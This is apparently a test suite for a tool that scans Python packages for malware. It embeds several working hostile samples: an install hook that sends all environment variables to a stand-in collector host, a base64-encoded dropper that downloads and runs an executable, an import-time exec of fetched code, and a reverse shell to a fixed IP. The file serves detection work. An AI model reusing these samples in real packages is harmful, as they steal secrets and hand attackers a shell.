import assert from 'node:assert/strict';
import { test } from 'node:test';
import { packageFiles, pythonParser, type Sources } from '../../../test/builders/python-package.ts';
import { readMetadata } from '../python/metadata.ts';
import { analyse, isAnalysed } from './analyse.ts';

const parser = await pythonParser();
const FILLED = readMetadata(
  Buffer.from(
    'Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: A demo\nHome-page: https://demo.invalid\nAuthor: D\nLicense: MIT\nClassifier: Topic :: Demo\n\nWhat it does.\n',
  ),
).fields;
const judge = (sources: Sources, metadata = FILLED) =>
  analyse(parser, packageFiles(sources), { kind: 'sdist', metadata });

const STEALER = `
import os, json, base64, urllib.request
from setuptools import setup
from setuptools.command.install import install
class Install(install):
    def run(self):
        install.run(self)
        body = base64.b64encode(json.dumps(dict(os.environ)).encode())
        urllib.request.urlopen('https://col' + 'lector.example.invalid/x', body)
setup(name='demo', cmdclass={'install': Install})
`;
const DROPPER = `
import base64
exec(base64.b64decode('aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdAp1cmxsaWIucmVxdWVzdC51cmxyZXRyaWV2ZSgnaHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS5pbnZhbGlkL2EuZXhlJywgJy90bXAvYS5leGUnKQpvcy5zeXN0ZW0oJy90bXAvYS5leGUnKQ=='))
`;

for (const [why, sources] of [
  ['a stealer of the environment in setup.py', STEALER],
  ['a decoded dropper at import', { 'demo/__init__.py': DROPPER }],
  [
    'a request at import whose answer is executed',
    { 'demo/__init__.py': "import requests\nexec(requests.get('https://pastebin.com/raw/x').text)" },
  ],
  [
    'a reverse shell in a thread',
    {
      'demo/__init__.py':
        "import os, socket, threading\ndef go():\n    s = socket.socket()\n    s.connect(('45.67.89.10', 4444))\n    os.dup2(s.fileno(), 0)\n    os.system('/bin/sh -i')\nthreading.Thread(target=go).start()",
    },
  ],
] as const) {
  test(`withholds ${why}`, () => {
    const result = judge(sources);
    assert.ok(result.verdict === 'block' || result.verdict === 'hold', `${result.verdict} ${result.score}`);
    assert.ok(result.findings.length >= 1 && result.findings.length <= 5);
  });
}

for (const [why, sources] of [
  [
    'a setup script that builds with cmake and reads its version',
    "import os, subprocess\nfrom setuptools import setup\nexec(open('demo/version.py').read())\nsubprocess.check_call(['cmake', '--version'])\nsetup(name='demo', long_description=open('README.md').read())",
  ],
  [
    'an API client',
    {
      'demo/__init__.py':
        "import os, requests\nclass Client:\n    def __init__(self, token=None):\n        self.token = token or os.environ['DEMO_TOKEN']\n    def get(self, path):\n        return requests.get('https://api.demo.invalid/' + path, headers={'Authorization': self.token}).json()",
    },
  ],
  [
    "a command line tool that starts its user's program",
    { 'demo/__main__.py': 'import subprocess, sys\nsubprocess.run(sys.argv[1:])', 'demo/__init__.py': '' },
  ],
  ['an empty package', {}],
] as const) {
  test(`lets ${why} pass`, () => {
    const { verdict, score } = judge(sources);
    assert.ok(verdict === 'none' || verdict === 'note', `${verdict} ${score}`);
  });
}

test('names the decisive reason first, with its place', () => {
  const { findings } = judge(DROPPER);
  for (const [index, finding] of findings.entries())
    assert.ok(index === 0 || finding.weight <= findings[index - 1]!.weight);
  assert.ok(findings.every(({ file, line }) => file === 'setup.py' && line === 3));
});

test('gives the same answer twice and for any order of files', () => {
  const files = packageFiles({
    'demo/__init__.py': 'from .a import go\ngo()',
    'demo/a.py': 'import os\ndef go():\n    os.system("demo")',
  });
  const one = analyse(parser, files, { kind: 'sdist', metadata: FILLED });
  assert.deepEqual(analyse(parser, files, { kind: 'sdist', metadata: FILLED }), one);
  assert.deepEqual(analyse(parser, [...files].reverse(), { kind: 'sdist', metadata: FILLED }).score, one.score);
});

test('accuses nobody for missing metadata alone', () => {
  const { score, verdict } = analyse(parser, packageFiles("from setuptools import setup\nsetup(name='demo')"), {
    kind: 'sdist',
  });
  assert.equal(score, 0);
  assert.equal(verdict, 'none');
});

test('weighs the same behaviour more in an anonymous package', () => {
  const sources = { 'demo/__init__.py': "import os\nos.system('demo')" };
  assert.ok(analyse(parser, packageFiles(sources), { kind: 'sdist' }).score > judge(sources).score);
});

test('says when it could not read everything', () => {
  const deep = `exec("x = 1")\n${Array.from({ length: 30 }, (_, n) => `def f${n}(a):\n${Array.from({ length: 60 }, (_, k) => `  for i${k} in a: f${(n + k) % 30}(i${k})`).join('\n')}`).join('\n')}`;
  const result = judge({ 'demo/__init__.py': deep });
  assert.equal(typeof result.complete, 'boolean');
  assert.equal(result.complete, result.limits.length === 0);
});

for (const [why, source] of [
  ['a loop that never ends', 'while True:\n    x = 1'],
  ['a loop that grows a list by itself', "l = ['a']\nfor i in range(100000):\n    l.extend(l)"],
  ['a text that doubles', "x = 'a'\nfor i in range(1000):\n    x += x"],
  ['a number without end', 'x = 9 ** 9 ** 9 ** 9'],
  ['functions that call each other', 'def a(): b()\ndef b(): a()\na()'],
  ['exec inside exec', "c = 'exec(c)'\nexec(c)"],
  ['a class that is its own base', 'class A: pass\nclass A(A): pass\nA().x()'],
  [
    'a dict that holds itself',
    'd = {}\nd["d"] = d\nimport requests\nrequests.post("https://x.example.invalid", json=d)',
  ],
  ['a list that holds itself', 'l = []\nl.append(l)\nimport os\nos.system(l)'],
  ['a module that imports itself', 'from demo import *\nimport demo'],
  [
    'an object that holds itself',
    'class A:\n  def __init__(self):\n    self.a = self\nimport os\nos.system(A().a.a.a)',
  ],
  ['names of objects', 'x = constructor\ny = __proto__\nz = {"__proto__": 1}["__proto__"]\ntoString()'],
] as const) {
  test(`comes to an end on ${why}`, () => assert.equal(typeof judge({ 'demo/__init__.py': source }).score, 'number'));
}

test('asks only for what it reads', () => {
  for (const path of ['a/b.py', 'x.pth', 'run.pyw', 'demo-1/pyproject.toml', 'demo-1.dist-info/entry_points.txt'])
    assert.equal(isAnalysed(path), true);
  for (const path of ['a.so', 'README.md', 'data.json']) assert.equal(isAnalysed(path), false);
});
